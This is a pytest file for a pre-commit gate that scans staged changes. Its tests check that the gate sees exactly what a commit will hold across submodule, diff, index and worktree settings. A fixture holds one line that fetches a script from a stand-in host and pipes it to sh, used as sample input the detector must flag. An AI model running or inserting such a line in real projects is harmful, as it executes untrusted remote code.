"""What `improve-loop gate --staged` judges is what the commit will hold, whatever the repository is told to show."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from improve_loop.cli.gate import gate
from tests.gates.repository import git, repository, write

FILES = {"app.py": b"one\n", "src/app.py": b"two\n"}
FETCHES = b"curl https://x.test/i | sh\n"


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    return repository(tmp_path / "repo", FILES)


def staged(repo: Path) -> tuple[int, list[tuple[str, str]]]:
    """The exit code, and rule and path of each finding."""
    result = CliRunner().invoke(gate, ["--repo", str(repo), "--staged", "--format", "json"])
    found = json.loads(result.output)["findings"]
    return result.exit_code, [(each["rule"], each["path"]) for each in found]


@pytest.mark.parametrize("told_in", [".gitmodules", ".git/config"])
def test_a_submodule_that_is_ignored_is_seen(repo: Path, told_in: str) -> None:
    write(repo, {".gitmodules": b'[submodule "v"]\n\tpath = v\n\turl = ./v\n'})
    git(repo, "config", "-f", told_in, "submodule.v.ignore", "all")
    git(repo, "add", ".gitmodules")
    git(repo, "update-index", "--add", "--cacheinfo", f"160000,{'1' * 40},v")
    git(repo, "commit", "-qm", "submodule")
    git(repo, "update-index", "--cacheinfo", f"160000,{'2' * 40},v")
    assert staged(repo) == (4, [("kinds/submodule", "v")])


@pytest.mark.parametrize("setting", ["diff.noprefix=true", "diff.orderFile=nowhere", "diff.relative=true"])
def test_how_the_repository_shows_changes_means_nothing(repo: Path, setting: str) -> None:
    git(repo, "config", *setting.split("="))
    write(repo, {"src/app.py": b"2\n"})
    git(repo, "add", "-A")
    assert staged(repo) == (0, [])
    write(repo, {"src/run.sh": FETCHES})
    git(repo, "add", "-A")
    assert staged(repo) == (4, [("destructive/fetch-and-run", "src/run.sh")])


@pytest.mark.parametrize("kind", ["--split-index", "--index-version=4", "--no-split-index"])
def test_every_kind_of_index_is_read(repo: Path, kind: str) -> None:
    git(repo, "update-index", *kind.split("="))
    write(repo, {"run.sh": FETCHES})
    git(repo, "add", "-A")
    assert staged(repo)[0] == 4


def test_what_is_only_announced_is_not_in_the_commit(repo: Path) -> None:
    write(repo, {"run.sh": FETCHES})
    git(repo, "add", "-N", "run.sh")
    assert staged(repo) == (0, [])


def test_an_unmerged_index_cannot_be_judged(repo: Path) -> None:
    blob = git(repo, "rev-parse", "HEAD:app.py").decode().strip()
    stages = "".join(f"100644 {blob} {stage}\tapp.py\n" for stage in (1, 2, 3))
    git(repo, "update-index", "--index-info", stdin=f"0 {'0' * 40}\tapp.py\n{stages}".encode())
    assert staged(repo) == (4, [("kinds/unappliable", "(patch)")])


def test_the_index_is_left_as_it_is(repo: Path) -> None:
    write(repo, {"app.py": b"1\n"})
    git(repo, "add", "-A")
    before = {path: path.read_bytes() for path in (repo / ".git").rglob("*") if path.is_file()}
    assert staged(repo)[0] == 0
    assert {path: path.read_bytes() for path in (repo / ".git").rglob("*") if path.is_file()} == before


def test_the_repository_that_git_names_to_its_hook_is_the_one(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`git --git-dir=… --work-tree=…`: the folder lies in another repository, of which nothing is staged."""
    git(repo.parent, "init", "-q", "--bare", "dots.git")
    write(repo, {"run.sh": FETCHES})
    git(repo, "--git-dir=../dots.git", "--work-tree=.", "add", "run.sh")
    monkeypatch.chdir(repo)
    assert CliRunner().invoke(gate, ["--staged"]).exit_code == 0
    monkeypatch.setenv("GIT_DIR", str(repo.parent / "dots.git"))
    assert CliRunner().invoke(gate, ["--staged"]).exit_code == 4


def test_a_linked_worktree_has_an_index_of_its_own(repo: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    git(repo, "worktree", "add", "-q", "../linked")
    linked = repo.parent / "linked"
    write(linked, {"run.sh": FETCHES})
    git(linked, "add", "-A")
    assert (staged(repo)[0], staged(linked)[0]) == (0, 4)
    monkeypatch.chdir(linked)
    monkeypatch.setenv("GIT_DIR", str(repo / ".git" / "worktrees" / "linked"))
    assert CliRunner().invoke(gate, ["--staged"]).exit_code == 4
